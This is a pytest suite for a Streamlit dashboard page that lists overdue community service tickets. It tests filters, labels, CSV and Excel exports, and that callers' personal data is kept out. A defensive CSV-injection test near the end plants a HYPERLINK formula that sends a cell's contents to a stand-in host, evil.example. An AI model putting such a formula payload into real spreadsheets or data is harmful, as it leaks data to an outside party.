"""AppTest of the 超期督办 overdue page on the case book at NOW (2026-11-20 12:00).

T4 (花园里社区) is 3 d 4 h late and escalated twice; T11 (桃源社区, emergency) is due within the hour. The
exports are observed through `st.download_button` itself: a spy records what the page hands it (the
deferred file builders) and the test builds the files exactly as a click would.
"""

from __future__ import annotations

import datetime as dt
import io
import shutil

import openpyxl
import pandas as pd
import pytest
import streamlit as st
from sqlalchemy import insert
from streamlit.testing.v1 import AppTest

from data_access.engine import make_engine
from data_access.schema import TicketPersonal
from helpers import APP, NOW
from ui import keys
from ui.components.overdue_view import without_single_street

PAGE = "views/overdue.py"
COL_TICKET, COL_LATENESS, COL_WHISTLE, COL_DUE = "工单编号", "超期时长", "吹哨", "办理时限"
PERSONAL_VALUES = ("张三", "13800138000", "李四", "13900139000", "春晖社区1号楼", "暖气不热")


@pytest.fixture
def overdue_casebook(casebook_sqlite_url, tmp_path, monkeypatch):
    """The case book with personal data on the listed tickets too (T4, T11), so "never shown" means something."""
    path = tmp_path / "casebook_personal.db"
    shutil.copy(casebook_sqlite_url.removeprefix("sqlite:///"), path)
    url = f"sqlite:///{path}"
    eng = make_engine(url)
    with eng.begin() as conn:
        conn.execute(
            insert(TicketPersonal.__table__),
            [
                dict(ticket_id=4, caller_name="张三", caller_phone="13800138000", address="春晖社区1号楼", content="暖气不热"),
                dict(ticket_id=11, caller_name="李四", caller_phone="13900139000", address=None, content=None),
            ],
        )
    eng.dispose()
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("DASHBOARD_TEST_MODE", "1")  # honours keys.TEST_ACCOUNT (ui/auth.py)
    st.cache_data.clear()
    st.cache_resource.clear()
    return url


class DownloadSpy:
    """Wraps st.download_button: records label, data and file name by key, then draws the real button."""

    def __init__(self, real):
        self.real = real
        self.calls: dict[str, dict] = {}

    def __call__(self, label, data, file_name=None, mime=None, key=None, **kwargs):
        self.calls[key] = dict(label=label, data=data, file_name=file_name, mime=mime)
        return self.real(label, data, file_name=file_name, mime=mime, key=key, **kwargs)

    def payload(self, key: str) -> bytes:
        data = self.calls[key]["data"]
        return data() if callable(data) else data


@pytest.fixture
def downloads(monkeypatch):
    spy = DownloadSpy(st.download_button)
    monkeypatch.setattr(st, "download_button", spy)
    return spy


def open_overdue(lang: str = "zh", **params: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=30)
    at.session_state[keys.NOW_OVERRIDE] = NOW
    at.session_state[keys.TEST_ACCOUNT] = "supervisor"  # signed in, whole district
    at.query_params["period"] = params.pop("period", "this_month")
    if lang != "zh":
        at.query_params["lang"] = lang
    for name, value in params.items():
        at.query_params[name] = value
    at.run()
    at.switch_page(PAGE).run()
    assert not at.exception
    return at


def listed(at: AppTest) -> pd.DataFrame:
    """The ticket list: the last table on the page (the per-community summary comes before it)."""
    return at.dataframe[-1].value


def key(suffix: str) -> str:
    return f"{keys.OVERDUE_PAGE}_{suffix}"


def test_list_shows_t4_then_t11_with_how_late(overdue_casebook):
    frame = listed(open_overdue())
    assert list(frame[COL_TICKET]) == ["T4", "T11"]
    assert list(frame[COL_LATENESS]) == ["超期3天4小时", "剩余1小时"]


def test_list_columns_and_values(overdue_casebook):
    row = listed(open_overdue()).iloc[0].to_dict()
    assert row == {
        "社区": "花园里社区", "街道": "东湖街道", "工单编号": "T4", "问题分类": "物业管理", "紧急程度": "一般",
        "超期时长": "超期3天4小时", "超期小时": 76.0, "办理时限": pd.Timestamp(2026, 11, 17, 8), "承办部门": "东湖街道办事处",
        "督办次数": 2, "吹哨": False, "状态": "办理中",
    }


def test_list_of_one_street_has_no_street_column():
    """Issue 10: on a secretary's list the street column said nothing and pushed the right-hand columns out."""
    frame = pd.DataFrame({"社区": ["甲社区", "乙社区"], "街道": ["东湖街道", "西苑街道"]})
    assert list(without_single_street(frame).columns) == ["社区", "街道"]
    assert list(without_single_street(frame.head(1)).columns) == ["社区"]


def test_list_in_english(overdue_casebook, monkeypatch):
    # AppTest formats the sidebar's selected options outside the script run when it switches pages, where
    # the session's language is not visible: pin the language for the whole test instead.
    monkeypatch.setattr("ui.i18n.current_language", lambda: "en")
    frame = listed(open_overdue(lang="en"))
    assert list(frame["How late"]) == ["3 d 4 h late", "due in 1 h"]
    assert list(frame["Urgency"]) == ["general", "emergency"]


def test_summary_cards_and_table(overdue_casebook):
    at = open_overdue()
    assert {m.label: m.value for m in at.metric} == {"当前超期（全部）": "1", "24小时内到期": "1", "已督办": "1", "最久超期": "3天4小时"}
    table = at.dataframe[0].value
    assert list(table["社区"]) == ["花园里社区", "桃源社区"]
    assert list(table["超期"]) == [1, 0] and list(table["24小时内到期"]) == [0, 1]


def test_page_filter_overdue_only_drops_t11(overdue_casebook):
    at = open_overdue()
    at.segmented_control(key=key(keys.OVERDUE_DUE)).set_value("overdue").run()
    assert not at.exception
    assert list(listed(at)[COL_TICKET]) == ["T4"]


@pytest.mark.parametrize(
    "suffix, value, expected",
    [
        (keys.OVERDUE_DUE, "due_soon", ["T11"]),
        (keys.OVERDUE_URGENCY, ["emergency"], ["T11"]),
        (keys.OVERDUE_ESCALATED, True, ["T4"]),
        (keys.OVERDUE_DEPARTMENT, ["东湖街道办事处"], ["T4", "T11"]),
    ],
    ids=["due_soon_only", "urgency", "escalated_only", "department"],
)
def test_page_filters(overdue_casebook, suffix, value, expected):
    at = open_overdue()
    kind = {keys.OVERDUE_DUE: "segmented_control", keys.OVERDUE_URGENCY: "multiselect",
            keys.OVERDUE_ESCALATED: "toggle", keys.OVERDUE_DEPARTMENT: "multiselect"}[suffix]
    getattr(at, kind)(key=key(suffix)).set_value(value).run()
    assert not at.exception
    assert list(listed(at)[COL_TICKET]) == expected


def test_filters_that_match_nothing_explain_themselves(overdue_casebook):
    at = open_overdue()
    at.toggle(key=key(keys.OVERDUE_ESCALATED)).set_value(True)
    at.multiselect(key=key(keys.OVERDUE_URGENCY)).set_value(["emergency"]).run()
    assert not at.exception and not at.dataframe
    assert "没有符合页面筛选条件的工单" in at.info[0].value


def test_period_does_not_apply(overdue_casebook):
    at = open_overdue(period="last_month")  # October: neither T4 nor T11 was received then
    assert list(listed(at)[COL_TICKET]) == ["T4", "T11"]
    assert "不受统计周期影响" in at.caption[0].value


def test_sidebar_street_applies(overdue_casebook):
    assert list(listed(open_overdue(street="S2"))[COL_TICKET]) == ["T11"]


def test_empty_state_for_a_community_without_overdue_tickets(overdue_casebook, downloads):
    at = open_overdue(street="S2", community="C2b")  # 静安里社区: no tickets at all
    assert not at.dataframe and not at.metric and not downloads.calls
    assert "静安里社区当前没有超期" in at.info[0].value


def _as_exported(shown: pd.DataFrame) -> pd.DataFrame:
    """What the table on screen looks like as text in a spreadsheet: flags as 是/否, minutes-resolution times."""
    out = shown.copy()
    out[COL_WHISTLE] = out[COL_WHISTLE].map({True: "是", False: "否"})
    out[COL_DUE] = out[COL_DUE].dt.strftime("%Y-%m-%d %H:%M")
    return out.astype(str)


def test_csv_export_is_exactly_the_rows_shown(overdue_casebook, downloads):
    at = open_overdue()
    data = downloads.payload(key(keys.OVERDUE_CSV))
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens the Chinese correctly
    parsed = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(parsed, _as_exported(listed(at)), check_dtype=False)


def test_csv_export_follows_the_page_filter(overdue_casebook, downloads):
    at = open_overdue()
    at.segmented_control(key=key(keys.OVERDUE_DUE)).set_value("overdue").run()
    parsed = pd.read_csv(io.BytesIO(downloads.payload(key(keys.OVERDUE_CSV))), encoding="utf-8-sig", dtype=str)
    assert list(parsed[COL_TICKET]) == ["T4"]


def test_excel_export_has_the_same_rows(overdue_casebook, downloads):
    at = open_overdue()
    book = openpyxl.load_workbook(io.BytesIO(downloads.payload(key(keys.OVERDUE_XLSX))))
    sheet = book.active
    shown = listed(at)
    values = list(sheet.values)
    assert list(values[0]) == list(shown.columns)
    assert [r[list(shown.columns).index(COL_TICKET)] for r in values[1:]] == ["T4", "T11"]
    assert [r[list(shown.columns).index(COL_LATENESS)] for r in values[1:]] == ["超期3天4小时", "剩余1小时"]
    assert values[1][list(shown.columns).index(COL_DUE)] == dt.datetime(2026, 11, 17, 8)
    assert sheet.title == "超期工单" and sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert sheet.column_dimensions["A"].width >= 8


@pytest.mark.parametrize(
    "params, suffix, name",
    [
        ({}, keys.OVERDUE_CSV, "超期工单_全区_2026-11-20.csv"),
        ({"street": "S1"}, keys.OVERDUE_XLSX, "超期工单_东湖街道_2026-11-20.xlsx"),
        ({"street": "S1", "community": "C1b"}, keys.OVERDUE_CSV, "超期工单_花园里社区_2026-11-20.csv"),
    ],
    ids=["district", "street", "community"],
)
def test_export_file_names(overdue_casebook, downloads, params, suffix, name):
    open_overdue(**params)
    assert downloads.calls[key(suffix)]["file_name"] == name


def test_no_personal_data_on_the_page_or_in_exports(overdue_casebook, downloads):
    at = open_overdue()
    texts = [str(e.value) for kind in ("markdown", "caption", "info", "title", "subheader") for e in at.get(kind)]
    texts += [df.value.to_csv() for df in at.dataframe]
    texts.append(downloads.payload(key(keys.OVERDUE_CSV)).decode("utf-8-sig"))
    sheet = openpyxl.load_workbook(io.BytesIO(downloads.payload(key(keys.OVERDUE_XLSX)))).active
    texts += [str(v) for row in sheet.values for v in row]
    page = "\n".join(texts)
    assert "T4" in page  # the check reads the list …
    assert [v for v in PERSONAL_VALUES if v in page] == []  # … and none of the callers' data


def test_list_alone_for_another_page(overdue_casebook):
    """render_overdue_list as the community page will use it: one community, its own widget keys, no summary."""

    def community_page():
        import datetime as dt
        import os

        from data_access.scope import Scope
        from domain.settings import DEFAULT_SETTINGS
        from ui import data
        from ui.components.overdue_view import render_overdue_list
        from ui.filter_bar import build_context
        from ui.filters import FilterState

        url, scope = os.environ["DATABASE_URL"], Scope.district()
        state = FilterState(street="S1", community="C1b")
        now = dt.datetime(2026, 11, 20, 12)
        ctx = build_context(url, scope, DEFAULT_SETTINGS, now, state, data.streets(url, scope), data.communities(url, scope))
        render_overdue_list(ctx, ctx.without_period(), key_prefix="community_overdue")

    at = AppTest.from_function(community_page, default_timeout=30).run()
    assert not at.exception and not at.metric
    assert list(at.dataframe[0].value[COL_TICKET]) == ["T4"]
    assert at.segmented_control(key=f"community_overdue_{keys.OVERDUE_DUE}").value == "both"


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'


@pytest.fixture
def hostile_casebook(overdue_casebook):
    """T4's category and its community's name are formulas, as an imported export could make them."""
    from sqlalchemy import text

    eng = make_engine(overdue_casebook)
    with eng.begin() as conn:
        conn.execute(text("UPDATE ticket SET category = :c WHERE ticket_no = 'T4'"), {"c": HOSTILE})
        conn.execute(text("UPDATE community SET name = '@SUM(1+1)' WHERE id = (SELECT community_id FROM ticket "
                          "WHERE ticket_no = 'T4')"))
    eng.dispose()
    return overdue_casebook


def test_exports_write_formula_like_text_as_text(hostile_casebook, downloads):
    """OWASP CSV injection: a value starting with = + - @ reaches a spreadsheet as text, never as a formula."""
    open_overdue()
    raw = downloads.payload(key(keys.OVERDUE_CSV)).decode("utf-8-sig")
    parsed = pd.read_csv(io.StringIO(raw), dtype=str, keep_default_na=False)
    cells = set(parsed.to_numpy().ravel())
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    xlsx = downloads.payload(key(keys.OVERDUE_XLSX))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert HOSTILE in {c.value for c in texts} and "@SUM(1+1)" in {c.value for c in texts}
    assert all(c.data_type == "s" for c in texts)  # stored as strings, not formulas
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_as_text_leaves_numbers_and_plain_text_alone():
    from ui.components.overdue_view import as_text

    assert [as_text(v) for v in (-3, 2.5, "东湖", "-1", "+86", "\t=1", "＝1")] == [
        -3, 2.5, "东湖", "'-1", "'+86", "'\t=1", "'＝1"]
